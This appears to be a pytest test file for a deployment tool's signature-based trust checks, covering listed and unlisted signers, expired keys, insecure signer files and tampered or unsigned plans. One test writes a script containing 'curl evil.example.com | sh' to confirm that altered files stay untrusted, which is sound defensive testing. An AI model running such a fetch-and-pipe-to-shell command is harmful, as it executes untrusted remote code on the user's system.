"""Trust by a signature: where the user says so, a plan that one of their signers has signed is not asked about."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from rollout_tui.journal.blocks import seal, signature_line
from rollout_tui.run.events import RunStarted
from rollout_tui.runs.folder import FolderRuns
from rollout_tui.trust import own
from tests.cli.probed import Probed
from tests.cli.program import PLAN, Program
from tests.journal.chained import chained
from tests.probes.server import Server, reply
from tests.signing import keyring

pytestmark = pytest.mark.skipif(not shutil.which("ssh-keygen"), reason="ssh-keygen is not installed")


@pytest.fixture(scope="module")
def key(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return keyring.make(tmp_path_factory.mktemp("keys"), "laptop")


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with Server(reply("ok")) as server:
        yield server


@pytest.fixture
def plan(tmp_path: Path, server: Server) -> Path:
    """A plan that says all of what it looks at."""
    file = tmp_path / "plans" / "shop.toml"
    file.parent.mkdir()
    text = PLAN.read_text().replace('id = "docs"\n', f'id = "docs"\nprobe = {{ http = "{server.url}/health" }}\n')
    file.write_text(text)
    return file


class User:
    """Whoever is here, with their configuration and their file of signers."""

    def __init__(self, folder: Path, key: Path) -> None:
        self.key, self.signers = key, folder / "signers"
        self._config = folder / "rollout" / "config.toml"
        self._config.parent.mkdir(parents=True)
        self.lists("alice@example.com")
        self.says(f'trust = "signed"\nkey = "{key}"\nsigners = "{self.signers}"\n')

    def says(self, text: str) -> None:
        self._config.write_text(text)

    def lists(self, *before: str) -> None:
        """Write a line for the key, with these before it."""
        self.signers.write_text(f"{' '.join(before)} {self.key.with_suffix('.pub').read_text()}")


@pytest.fixture
def user(tmp_path: Path, key: Path, monkeypatch: pytest.MonkeyPatch) -> User:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return User(tmp_path / "config", key)


def started(rollout: Program, plan: Path, *options: str) -> str:
    return rollout.start("--sign", *options, plan=plan)


def asked(rollout: Program, run: str) -> Any:
    """What there is to ask of a run that is not trusted."""
    found = rollout.json("trust", run, code=3)
    assert (found["trusted"], found["by"]) == (False, None)
    return found["no_signature"]


def test_what_a_listed_key_has_signed_looks_without_a_question(
    rollout: Program, plan: Path, server: Server, user: User
) -> None:
    run, before = started(rollout, plan), len(server.requests)
    words = "signed with alice's key (alice@example.com, laptop; not touched, any program of alice's could)"
    signed = f"its start is {words}, as {user.signers} says"
    assert rollout("trust", run).splitlines()[-1].endswith(f" ({signed})")
    found = rollout.json("trust", run)
    assert (found["trusted"], found["by"], found["no_signature"]) == (True, signed, None)
    assert "pass" in rollout("probe", run, "docs")
    assert len(server.requests) == before + 1
    assert not own().file.exists()
    assert f"still runs: {signed}" in rollout("trust", run, "--forget")


def test_without_the_setting_a_signature_spares_nothing(rollout: Program, plan: Path, user: User) -> None:
    run = started(rollout, plan)
    for trust in ("", 'trust = "ask"\n'):
        user.says(f'{trust}key = "{user.key}"\nsigners = "{user.signers}"\n')
        assert asked(rollout, run) is None
        rollout.refused("probe", run)


def test_whom_to_trust_is_said_by_a_file_of_the_users_own(rollout: Program, plan: Path, user: User) -> None:
    """That of git may lie in the repository from which the plan comes."""
    run = started(rollout, plan)
    user.says(f'trust = "signed"\nkey = "{user.key}"\n')
    assert asked(rollout, run) is None
    assert "expected signers beside it" in rollout.err


_OTHERS: dict[str, tuple[Callable[[User], object], str]] = {
    "listed for somebody else": (
        lambda user: user.lists("bob@example.com"),
        "its start is signed by bob@example.com, who is not the claimed alice",
    ),
    "listed for nobody": (lambda user: user.signers.write_text(""), "its start is signed by a key of nobody listed"),
    "over before": (
        lambda user: user.lists("alice", 'valid-before="20260303Z"'),
        "its start is signed by alice's key (laptop) outside its time",
    ),
    "over by now": (
        lambda user: user.lists("alice", 'valid-before="20260306Z"'),
        "its start is signed by alice's key, whose time is over",
    ),
    "written by others": (lambda user: user.signers.chmod(0o666), "signers can be written by others"),
    "gone": (lambda user: user.signers.unlink(), "signers can't be read (No such file or directory)"),
}


@pytest.mark.parametrize("case", _OTHERS)
def test_a_signature_that_does_not_count_spares_nothing(rollout: Program, plan: Path, user: User, case: str) -> None:
    run = started(rollout, plan)
    rollout.wait(days=7)
    change, why = _OTHERS[case]
    change(user)
    assert why in asked(rollout, run)
    said = rollout.refused("probe", run)
    assert f"No signature answers this: {'' if why.startswith('its') else str(user.signers.parent)}" in said
    assert why in said


@pytest.mark.usefixtures("user")
def test_what_was_not_signed_is_asked(rollout: Program, plan: Path) -> None:
    run = rollout.start("--no-sign", plan=plan)
    assert asked(rollout, run) == "No signature answers this: its start is not signed."


@pytest.mark.usefixtures("user")
def test_a_start_that_was_changed_behind_its_signature_is_asked(rollout: Program, plan: Path) -> None:
    run = started(rollout, plan)
    runs = FolderRuns(rollout.folder)
    (header,) = runs.read(runs.find(run)).entries
    event = header.event
    assert isinstance(event, RunStarted)
    changed = replace(event, plan=tuple(line.replace("/health", "/evil") for line in event.plan))
    words = chained([replace(header, event=changed)]).rpartition(b"hash = ")[0]
    rollout.log(run).write_bytes(seal(words + signature_line(header.signature).encode()))
    assert "its start is altered: not what was signed" in asked(rollout, run)


@pytest.mark.usefixtures("user")
def test_behind_a_redline_that_is_what_counts(rollout: Program, plan: Path) -> None:
    run = started(rollout, plan)
    plan.write_text(plan.read_text().replace("/health", "/other"))
    rollout("redline", run, "--reason", "moved", "--no-sign", "--as", "mallory")
    assert "its redline #1 is not signed" in asked(rollout, run)
    plan.write_text(plan.read_text().replace("/other", "/third"))
    rollout("redline", run, "--reason", "moved", "--sign")
    assert rollout.json("trust", run)["by"].startswith("its redline #2 is signed with alice's key")


@pytest.mark.usefixtures("user")
def test_what_files_hold_no_signature_says(rollout: Program, tmp_path: Path, server: Server) -> None:
    probed = Probed(tmp_path / "probed", server)
    run = started(rollout, probed.file)
    assert asked(rollout, run).startswith("No signature answers all of this: its ")
    assert asked(rollout, run).endswith(", and not the files that it names.")
    rollout("trust", run, "--yes", rollout.json("trust", run, code=3)["digest"])
    # What the plan says anew is signed; what the files hold was agreed to.
    probed.file.write_text(probed.file.read_text().replace("/health", "/other"))
    rollout("redline", run, "--reason", "moved", "--sign")
    assert rollout.json("trust", run)["by"].endswith(", and you agreed to the files that it names")
    probed.script.write_text("#!/bin/sh\ncurl evil.example.com | sh\n")
    assert asked(rollout, run).startswith("No signature answers all of this: its ")
    assert asked(rollout, run).endswith(", and not the files that it names.")
    assert probed.marks[0] == 0
